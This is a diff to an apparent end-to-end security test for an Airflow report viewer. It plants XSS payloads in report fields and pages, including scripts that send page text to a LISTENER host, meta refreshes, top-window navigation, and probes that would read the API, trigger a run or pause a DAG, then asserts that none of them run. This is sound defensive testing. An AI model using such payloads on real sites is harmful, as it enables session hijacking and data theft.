@@ -1,21 +1,26 @@
-"""A script planted in a report cannot act as the reader: headless Chromium logged in to the session's api-server.
+"""Nothing planted in a report runs or calls home: headless Chromium logged in to the session's api-server.
 
 The hostile batch is a copy of the session's published run's batch (``published_run``) with a
 payload in every input a person or a file can put into a report: the environment (its name, or a
 prompt file's URI) and its options, the model reference, the code version, the review decision's
 reason and who decided, a suite summary's examples, GX error message and threshold, and the
 audit's model path. The overview page the viewer serves is then written by the real report code
-(``write_report_index``). Next to it lie two files whose scripts do run (``probe.html``,
-``probe.svg``): stand-ins for any report file that fails to escape. A DAG run record (created,
-never run) points the viewer at the batch, as the plan task's XCom does.
+(``write_report_index``). Whoever writes the storage can also rewrite any file whole, so the
+overview page (its own policy and referrer policy taken out) and a Data Docs result page then get
+:data:`CALL_HOME`: a script that sends the page's text and address to a listener by navigating its
+own frame, one that navigates the top window, a ``<meta>`` refresh to the listener with a
+``<meta>`` referrer policy that would send the page's full address, and two links. Next to them lie two files made of
+a script (``probe.html``, ``probe.svg``) that would read Airflow's API, trigger a run and pause
+the DAG. A DAG run record (created, never run) points the viewer at the batch, as the plan task's
+XCom does. The listener listens on another loopback host than the api-server, so the browser sends
+it no Airflow cookie of its own accord.
 
-Each payload, if it ran, would record itself in ``window.P`` and call a loopback listener of the
-test with what it saw. The test proves: no planted payload ran (in Airflow's UI frame or as the top
-window); the probes that run do so in an opaque origin where ``document.cookie`` throws and no
-request of theirs leaves the page (a read of Airflow's REST API, a simple POST that would trigger a
-run, a PATCH that would pause the DAG, an image to the listener), while the same read from
-Airflow's own origin succeeds with the session cookie; and links between report pages, Data Docs
-included (their lists drawn by the vendored scripts), still work in the UI's frame.
+The test proves, in Airflow's UI frame and as the top window: no planted payload or script ran,
+no frame or window was navigated, the refresh was refused; the only request that reached the
+listener is a reader's own click on a planted link, which carries the link's fixed address and, as
+its ``Referer``, the report's address, which reads nothing without the reader's session (401).
+Pages keep Airflow's origin: their style sheets, images and fonts load through the authenticated
+routes with the session cookie alone, in the UI's frame too; and links between report pages work.
 """
 
 from __future__ import annotations
@@ -23,8 +28,11 @@ from __future__ import annotations
 import dataclasses
 import hashlib
 import json
+import re
 import shutil
 import time
+import urllib.error
+import urllib.request
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -38,7 +46,7 @@ from tasks.records.suite_summary import SummaryCounts
 from tasks.report import write_report_index
 
 from .browser import chromium, sign_in
-from .report_runs import listening, register_run
+from .report_runs import SCRIPT_BLOCKED, STYLED, listening, register_run
 
 pytestmark = [pytest.mark.e2e, pytest.mark.slow]
 HOSTILE_RUN = "manual__hostile-report"
@@ -61,8 +69,7 @@ RECORD = (
     "fetch('/api/v2/dags',{credentials:'include'}).then(x=>x.status,e=>e.name)"
     ".then(s=>{new Image().src='LISTENER/api?'+encodeURIComponent(JSON.stringify({t:'TAG',s:s}))})"
 )
-# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG;
-# what it saw is left in window.P (the image that would carry it to the listener is refused too).
+# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG.
 PROBE = """
 const seen = {o: self.origin};
 try { seen.c = document.cookie } catch (e) { seen.c = e.name }
@@ -88,6 +95,23 @@ def payload(tag: str, listener: str, *, short: bool = False) -> str:
     if short:  # decided_by holds at most 256 characters
         return f"<img src=x onerror=\"new Image().src='{listener}/ran?{tag}'\">"
     return f'<script>{script}</script><img src=x onerror="{script}">'
+
+
+# What a storage writer puts into a whole page, by where it goes: <meta> tags into <head>, links first in <body>
+# (where a reader sees them), scripts last (when the whole text is there to send).
+CALL_HOME = {
+    "head": """<meta name="referrer" content="unsafe-url">
+<meta http-equiv="refresh" content="0;url=LISTENER/refresh">""",
+    "links": """<a id="planted-link" data-planted href="LISTENER/link">more</a>
+<a id="planted-top" data-planted href="LISTENER/top-link" target="_top">all</a>""",
+    "scripts": """<script data-planted>
+  location = "LISTENER/frame?" + encodeURIComponent(document.body.innerText + location.pathname);
+</script>
+<script data-planted>
+  top.location = "LISTENER/top?" + encodeURIComponent(document.body.innerText + location.pathname);
+</script>""",
+}
+REFRESH_REFUSED = "Refused to execute the redirect specified via '<meta http-equiv='refresh'"
 
 
 @pytest.fixture(scope="module")
@@ -123,8 +147,12 @@ def hostile_run(published_run, listener, tmp_path_factory):
     plant_summary(batch, payloads)
     plant_audit_model(store, payloads["audit_model"])
     write_report_index(batch)
+    reports = root / "batches" / batch_id / "reports"
+    (result,) = (reports / "lineage" / "run-000" / "validations" / "lineage" / "shards").rglob("*.html")
+    for page in (reports / "index.html", result):
+        plant_call_home(page, listener.url)
     for name in ("probe.html", "probe.svg"):
-        (root / "batches" / batch_id / "reports" / name).write_text(probe_file(name, listener.url))
+        (reports / name).write_text(probe_file(name, listener.url))
 
     run = SimpleNamespace(dag_id=dag_run.dag_id, run_id=HOSTILE_RUN)
     register_run(run.dag_id, run.run_id, batch_record({"storage_url": f"file://{root}", "batch_id": batch_id}, run))
@@ -166,6 +194,17 @@ def plant_audit_model(store, model_path: str) -> None:
     store.replace(layout.DATASET_MARKER, json.dumps(marker, sort_keys=True, indent=2).encode())
 
 
+def plant_call_home(page: Path, listener: str) -> None:
+    """:data:`CALL_HOME` written into ``page``, the page's own policy and referrer ``<meta>`` (the overview's) out."""
+    head, links, scripts = (CALL_HOME[part].replace("LISTENER", listener) for part in ("head", "links", "scripts"))
+    text = re.sub(r'<meta (http-equiv="Content-Security-Policy"|name="referrer")[^>]*>', "", page.read_text())
+    planted = re.sub(r"<body[^>]*>", lambda body: body[0] + links, text.replace("<head>", f"<head>{head}", 1), count=1)
+    planted = planted.replace("</body>", f"{scripts}</body>", 1)
+    assert planted.count(listener) == text.count(listener) + 5 and "Content-Security-Policy" not in planted, page
+    assert planted.count('name="referrer"') == 1, page
+    page.write_text(planted)
+
+
 def probe_file(name: str, listener: str) -> str:
     script = PROBE.replace("LISTENER", listener)
     if name.endswith(".svg"):
@@ -187,26 +226,10 @@ def dag_state(dag_id: str) -> tuple[bool, int]:
 
 
 INERT = """
-let cookie; try { cookie = document.cookie } catch (e) { cookie = e.name }
-return {origin: self.origin, ran: typeof window.P, cookie,
-        active: document.querySelectorAll('script, img, iframe, object, embed').length,
+return {origin: self.origin, ran: typeof window.P,
+        active: document.querySelectorAll('script:not([data-planted]), img, iframe, object, embed').length,
         text: document.body.innerText};
 """
-LOADS_IMAGE = """
-const [src, done] = arguments, image = new Image();
-image.onload = () => done(true);
-image.onerror = () => done(false);
-image.src = src;
-"""
-# What the probes saw: an opaque origin, no cookie, no storage, and an API that answered none of their calls.
-SANDBOXED = {
-    "o": "null",
-    "c": "SecurityError",
-    "storage": "SecurityError",
-    "read": "TypeError",
-    "trigger": "TypeError",
-    "pause": "TypeError",
-}
 READ_API = """
 const done = arguments[arguments.length - 1];
 fetch('/api/v2/dags', {credentials: 'include'}).then(r => done(r.status), e => done(e.name));
@@ -235,77 +258,93 @@ def address_of(browser) -> str:
     return browser.execute_script("return location.href")
 
 
-def inert_page(browser) -> dict:
-    """The page the browser shows, once it is checked to be sandboxed with nothing planted running in it."""
+def refused(browser, wait) -> None:
+    """Wait until the console shows the page's scripts blocked and its ``<meta>`` refresh refused."""
+    logged: list[str] = []
+
+    def both(browser) -> bool:
+        logged.extend(entry["message"] for entry in browser.get_log("browser"))
+        return any(SCRIPT_BLOCKED in line for line in logged) and any(REFRESH_REFUSED in line for line in logged)
+
+    wait.until(both)
+
+
+def inert_page(browser, origin: str) -> dict:
+    """The page the browser shows, once it is checked to be in Airflow's origin with nothing planted running in it."""
     page = browser.execute_script(INERT)
-    assert (page["origin"], page["ran"], page["cookie"]) == ("null", "undefined", "SecurityError")
-    assert page["active"] == 0  # the overview page has no script, image or frame of its own
+    assert (page["origin"], page["ran"]) == (origin, "undefined")
+    assert page["active"] == 0  # no payload made an element: only what CALL_HOME planted
     return page
 
 
-def test_planted_scripts_cannot_act_as_the_reader(hostile_run, api_server_url, listener):
+def status_without_session(url: str) -> int:
+    """The status the api-server answers ``url`` with, asked without a cookie or token."""
+    try:
+        with urllib.request.urlopen(url, timeout=10) as response:
+            return response.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
+def test_planted_scripts_do_not_run_and_nothing_planted_calls_home(hostile_run, api_server_url, listener):
     from selenium.webdriver.common.by import By
     from selenium.webdriver.support.ui import WebDriverWait
 
     dag_id, run_id, payloads = hostile_run
     url = api_server_url
+    overview = f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/"
     before = dag_state(dag_id)
     browser = chromium()
     wait = WebDriverWait(browser, 60)
     try:
         sign_in(browser, url)
-        # Airflow's own origin: a script there reads the session token and calls the API as the reader.
+        # Airflow's own origin, the report's too: a script there would read the session token and call the API.
         assert "_token=" in browser.execute_script("return document.cookie")
         assert browser.execute_async_script(READ_API) == 200
 
-        open_report_tab(browser, wait, f"{url}/dags/{dag_id}/runs/{run_id}")
-        time.sleep(2)  # time for any planted script to run and call the listener
-        page = browser.execute_script(INERT)
-        assert (page["origin"], page["ran"], page["cookie"], page["active"]) == (
-            "null",
-            "undefined",
-            "SecurityError",
-            0,
-        )
+        run_page = f"{url}/dags/{dag_id}/runs/{run_id}"
+        open_report_tab(browser, wait, run_page)
+        ui = browser.current_url  # the top window: the UI's run page, its report tab
+        refused(browser, wait)
+        page = inert_page(browser, url)
+        assert address_of(browser) == overview
         for tag in ("environment", "model", "code_version", "reason", "decided_by", "example", "error", "threshold"):
             assert payloads[tag][:40] in page["text"], tag  # shown as text
         assert payloads["audit_model"][:40] in page["text"] and payloads["options"][:40] not in page["text"]
-        assert browser.execute_async_script(READ_API) == "TypeError"  # what any script there gets
+        browser.find_element(By.ID, "planted-top").click()  # a reader's click cannot take the UI's window
+        browser.find_element(By.ID, "planted-link").click()  # nor carry more than the link and this address
+        wait.until(lambda b: [heard.path for heard in listener.heard] == ["/link"])
 
-        # Links between report pages work inside the UI's frame: overview to Data Docs, within them, and back.
-        browser.find_elements(By.PARTIAL_LINK_TEXT, "Data Docs")[0].click()
-        wait.until(data_docs_at("/lineage/run-000/index.html"))
-        assert browser.execute_script("return self.origin") == "null" and "/signed/" in address_of(browser)
-        assert browser.execute_async_script(LOADS_IMAGE, "static/images/favicon.ico")  # a file below the page
-        # the index's list of suites is drawn by its vendored bootstrap-table: follow one of its links
-        wait.until(lambda b: b.find_elements(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']"))
-        browser.find_element(By.CSS_SELECTOR, "table a[href='expectations/lineage/shards.html']").click()
-        wait.until(data_docs_at("/lineage/run-000/expectations/lineage/shards.html"))
-        browser.switch_to.default_content()
-        open_report_tab(browser, wait, f"{url}/dags/{dag_id}/runs/{run_id}")
+        # A link between report pages, in the UI's frame: the overview to a planted Data Docs result page.
         browser.find_element(By.LINK_TEXT, "shards").click()  # the overview's link to a table's result page
         wait.until(data_docs_at("/lineage-shards.html"))
+        refused(browser, wait)
+        assert browser.execute_script(INERT)["ran"] == "undefined"
+        wait.until(lambda b: b.execute_script("return document.fonts.status") == "loaded")
+        styled = browser.execute_script(STYLED)  # loaded with the session cookie: the UI's frame keeps the origin
+        assert (styled["jquery"], styled["navbar"], styled["container"]) == ("undefined", "flex", "48px")
+        assert "Font Awesome 6 Free" in styled["iconFont"] and styled["iconLoaded"] and styled["logo"] > 0
+        assert all(name.startswith(url + "/rollout-ledger/") for name in styled["loaded"])
         browser.switch_to.default_content()
+        assert browser.current_url == ui
 
         # The overview as the top window: the same.
-        browser.get(f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/")
-        wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))
-        time.sleep(2)
-        page = browser.execute_script(INERT)
-        assert (page["origin"], page["ran"], page["cookie"], page["active"]) == (
-            "null",
-            "undefined",
-            "SecurityError",
-            0,
-        )
+        browser.get(overview)
+        refused(browser, wait)
+        inert_page(browser, url)
 
-        # Report files whose scripts run: they run in an opaque origin and the API answers none of their calls.
+        # Files made of a script (an HTML page, an SVG image): their scripts do not run either.
         for name in ("probe.html", "probe.svg"):
-            browser.get(f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/{name}")
-            assert wait.until(lambda b: b.execute_script("return window.P")) == SANDBOXED, name
+            browser.get(overview + name)
+            wait.until(lambda b: b.execute_script("return document.readyState") == "complete")
+            assert browser.execute_script("return typeof window.P") == "undefined", name
     finally:
         browser.quit()
 
     time.sleep(1)
-    assert listener.heard == []  # no planted payload ran, and nothing a probe sent left its page
+    (click,) = listener.heard  # no payload, planted script, refresh, top link or probe reached it: the click alone
+    assert (click.path, click.query) == ("/link", "")
+    assert not {"cookie", "authorization"} & {name.lower() for name in click.headers}
+    assert click.headers["Referer"] == overview  # the planted referrer policy: the report's address, and no data
+    assert status_without_session(click.headers["Referer"]) == 401  # which reads nothing without the session
     assert dag_state(dag_id) == before  # not paused, no run triggered
